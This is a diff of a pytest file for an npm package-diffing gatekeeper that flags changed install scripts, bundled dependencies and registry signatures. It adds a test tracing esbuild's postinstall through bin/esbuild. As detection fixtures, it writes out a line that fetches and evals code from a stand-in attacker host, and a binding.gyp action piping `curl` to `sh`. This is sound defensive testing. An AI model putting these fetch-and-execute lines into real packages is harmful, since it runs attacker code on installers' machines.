@@ -22,7 +22,6 @@ REAL_PAIRS = [
     ("semver-7.6.2", "semver-7.6.3"),
     ("left-pad-1.2.0", "left-pad-1.3.0"),
     ("chalk-5.3.0", "chalk-5.4.0"),
-    ("esbuild-0.20.1", "esbuild-0.20.2"),
 ]
 
 
@@ -99,6 +98,22 @@ def test_real_release_pairs_pass_untouched(old: str, new: str) -> None:
     assert any(c.field == "version" for c in result.fields)
 
 
+def test_esbuild_install_runs_its_changed_bin(differ: Differ) -> None:
+    """esbuild's postinstall ends with `validateBinaryVersion(process.execPath, toPath)` (toPath =
+    path.join(__dirname, 'bin', 'esbuild')), which runs `execFileSync(command.shift(), command)`: read through the
+    function's call sites, install.js runs bin/esbuild, and 0.20.2 changed it (its version string). bin/esbuild in
+    turn runs `execFileSync("node", [binPath].concat(...))` with a computed script, so the closure fails closed and
+    lib/main.js (changed) counts too. The regex closure saw neither call and passed the pair."""
+    result = diff_packages(load(fixture("esbuild-0.20.1")), load(fixture("esbuild-0.20.2")), Policy())
+    found = {f.file: f for f in result.findings}
+    assert {f.rule for f in result.findings} == {"install-script-code-changed"} and set(found) == {
+        "bin/esbuild",
+        "lib/main.js",
+    }, result.findings
+    assert "execFileSync(command.shift()" in found["bin/esbuild"].message
+    assert "bin/esbuild line 219" in found["lib/main.js"].message
+
+
 def test_delta_lists_files_with_sizes_and_fields(differ: Differ) -> None:
     result = differ(
         "left-pad-1.2.0",
@@ -154,6 +169,7 @@ def test_prepare_added_only_warns(differ: Differ) -> None:
 
 def test_install_script_changed_and_removed(differ: Differ) -> None:
     changed = differ("esbuild-0.20.1", cand="esbuild-0.20.2", manifest=add_script("postinstall", "node install.js --x"))
+    changed.findings[:] = [g for g in changed.findings if g.rule != "install-script-code-changed"]  # see test_esbuild_
     (f,) = only(changed, "lifecycle-script-changed")
     assert '"node install.js" -> "node install.js --x"' in f.message and f.blocks
     removed = differ("esbuild-0.20.1", cand="esbuild-0.20.2", manifest=lambda d: d.pop("scripts"))
@@ -200,8 +216,8 @@ def test_first_changed_line_is_reported(differ: Differ) -> None:
     lines = original.split(b"\n")
     lines[40] = b"fetch('https://evil.example/x').then(eval);"
     result = differ("esbuild-0.20.1", cand="esbuild-0.20.2", files={"install.js": b"\n".join(lines)})
-    (f,) = only(result, "install-script-code-changed")
-    assert f.line == 41
+    found = {g.file: g for g in only(result, "install-script-code-changed")}
+    assert found["install.js"].line == 41 and set(found) == {"install.js", "bin/esbuild", "lib/main.js"}
 
 
 def test_transitive_requires_of_the_install_script(differ: Differ) -> None:
@@ -421,7 +437,6 @@ def test_bundled_dependencies(differ: Differ, tmp_path: Path) -> None:
     assert "bundled code changed" in g.message
 
 
-
 @pytest.mark.parametrize(
     "spelling",
     [{"bundleDependencies": {"ms": "2.1.3"}}, {"bundledDependencies": {"ms": True}}],
@@ -443,7 +458,6 @@ def test_bundled_dependencies_in_object_form_are_seen_as_npm_normalises_them(
     )
     (f,) = only(result, "bundled-dependencies-changed")
     assert '"ms" added to the bundle' in f.message
-
 
 
 def test_a_dependency_shipped_under_node_modules_without_bundling_is_reported(tmp_path: Path) -> None:
@@ -814,7 +828,6 @@ def test_binding_gyp_changed_while_native_build_is_on(tmp_path: Path) -> None:
     assert f.file == "binding.gyp" and "node-gyp rebuild" in f.message
 
 
-
 @pytest.mark.parametrize("empty", ["", None, False])
 def test_an_empty_install_script_does_not_hide_the_implicit_native_build(tmp_path: Path, empty: object) -> None:
     """npm (arborist, run-script) skips the implicit `node-gyp rebuild` only for a *truthy* install/preinstall
@@ -828,7 +841,6 @@ def test_an_empty_install_script_does_not_hide_the_implicit_native_build(tmp_pat
     changed["binding.gyp"] = "{'targets': [{'actions': [{'action': ['sh', '-c', 'curl x | sh']}]}]}\n"
     result = diff_packages(load(base), load(make_tgz(changed, tmp_path / "c.tgz")), Policy())
     assert "install-script-code-changed" in {f.rule for f in result.findings if f.blocks}, result.findings
-
 
 
 def test_publish_config_may_not_steer_npm_publish(differ: Differ) -> None:
@@ -859,7 +871,6 @@ def test_the_npm_config_key_list_covers_the_npm_cli() -> None:
     out = subprocess.run([node, "-e", script], capture_output=True, text=True, check=True, timeout=60).stdout
     missing = set(json.loads(out)) - NPM_CONFIG_KEYS
     assert not missing, f"add these npm config keys to NPM_CONFIG_KEYS: {sorted(missing)}"
-
 
 
 def test_a_native_glob_approval_approves_only_native_binaries(tmp_path: Path) -> None:
@@ -1074,8 +1085,10 @@ def test_public_registry_baseline_without_signatures_blocks(tmp_path: Path) -> N
 
     from gatekeeper.gates import diff as gate
 
-    spki = ec.generate_private_key(ec.SECP256R1()).public_key().public_bytes(
-        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
+    spki = (
+        ec.generate_private_key(ec.SECP256R1())
+        .public_key()
+        .public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
     )
     keys = [{"keyid": "SHA256:k", "key": base64.b64encode(spki).decode(), "expires": None}]
     reg = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2")}, keys=keys, public=True)  # no dist.signatures
